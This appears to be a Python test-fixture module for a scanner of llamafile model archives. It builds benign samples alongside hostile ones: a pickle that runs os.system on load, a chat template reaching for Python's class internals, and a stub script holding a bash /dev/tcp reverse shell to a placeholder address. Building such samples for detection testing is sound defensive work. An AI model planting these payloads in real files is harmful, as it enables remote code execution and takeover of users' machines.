"""llamafiles: a program for every system, with the weights that it runs in a zip at its end."""

from __future__ import annotations

import io
import os
import pickle
import tempfile
import zipfile
from functools import cache
from pathlib import Path
from typing import Any

import native_forge

from sample_set import COMMAND, Sample, written


class Runs:
    def __reduce__(self) -> Any:
        return os.system, (COMMAND,)


@cache
def weights(template: str = "{{ messages[0].content }}") -> bytes:
    import gguf
    import numpy as np

    with tempfile.TemporaryDirectory() as folder:
        writer = gguf.GGUFWriter(f"{folder}/m.gguf", "llama")
        writer.add_chat_template(template)
        writer.add_tensor("a.weight", np.ones((2, 8), np.float32))
        writer.write_header_to_file()
        writer.write_kv_data_to_file()
        writer.write_tensors_to_file()
        writer.close()
        return (Path(folder) / "m.gguf").read_bytes()


def program(script: str = 'exec ./ape-loader "$0" "$@"') -> bytes:
    """What stands before the zip: the first bytes of a program for every system, and its shell script."""
    header = "".join(f"\\{byte:o}" for byte in b"\x7fELF\2\1\1\t")
    stub = f"\n#'\"\no=$(command -v \"$0\")\nprintf '{header}\\0' >&7\n{script}\nexit 1\n"
    return (b"jartsr='\n" + bytes(54) + b"'" + stub.encode()).ljust(8192, b"\0")


def llamafile(members: dict[str, bytes], front: bytes | None = None) -> bytes:
    front = program() if front is None else front
    out = io.BytesIO(front)
    out.seek(0, 2)
    with zipfile.ZipFile(out, "a") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def honest() -> bytes:
    return llamafile({"model.gguf": weights(), ".args": b"-m\nmodel.gguf\n--host\n127.0.0.1\n...\n"})


HOSTILE_TEMPLATE = "{{ ''.__class__.__base__.__subclasses__() }}"
NEEDS = ("gguf", "numpy")
SAMPLES = (
    Sample("llamafile/as-made", "llamafile", written("m.llamafile", honest), ("review",), honest=True,
           rule="llamafile.program", needs=NEEDS),
    Sample("llamafile/for-windows", "llamafile",
           written("m.exe", lambda: llamafile({"model.gguf": weights()}, b"MZqFpD='\n" + program()[9:])), ("review",),
           honest=True, rule="llamafile.program", needs=NEEDS),
    Sample("llamafile/opens-the-network", "llamafile",
           written("m.llamafile", lambda: llamafile({"model.gguf": weights(), ".args": b"--host\n0.0.0.0"})),
           ("review",), rule="llamafile.arguments", needs=NEEDS, trick="Its command line opens it to every machine."),
    Sample("llamafile/template", "llamafile",
           written("m.llamafile", lambda: llamafile({"model.gguf": weights(HOSTILE_TEMPLATE)})), ("danger",),
           needs=NEEDS, trick="The template in its weights reaches for Python's classes."),
    Sample("llamafile/pickle", "llamafile",
           written("m.llamafile", lambda: llamafile({"model.gguf": weights(), "extra.bin": pickle.dumps(Runs())})),
           ("danger",), needs=NEEDS, trick="A harmful pickle lies beside its weights."),
    Sample("llamafile/weights-lie", "llamafile",
           written("m.llamafile", lambda: llamafile({"model.gguf": weights()[:-40]})), ("unverifiable",), needs=NEEDS,
           trick="Its weights are shorter than they say."),
    Sample("llamafile/no-weights", "llamafile", written("m.llamafile", program), ("review",),
           rule="llamafile.no-weights", trick="It is a program and nothing else."),
    Sample("llamafile/disguised", "llamafile", written("m.gguf", honest), ("danger",), rule="native.disguised",
           needs=NEEDS, trick="Its name says that it is weights."),
    Sample("llamafile/reverse-shell", "llamafile",
           written("m.llamafile", lambda: llamafile({}, program("bash -i >& /dev/tcp/192.0.2.1/9 0>&1"))), ("danger",),
           rule="native.reverse-shell", trick="Its script hands a shell to somebody else."),
    Sample("llamafile/library", "llamafile",
           written("m.llamafile",
                   lambda: llamafile({"model.gguf": weights(), "ggml.so": native_forge.elf_with_dynamic(0x6FFFFEFC)})),
           ("danger",), rule="native.audit", needs=(*NEEDS, "markupsafe"), trick="It brings a library that watches."),
)  # fmt: skip
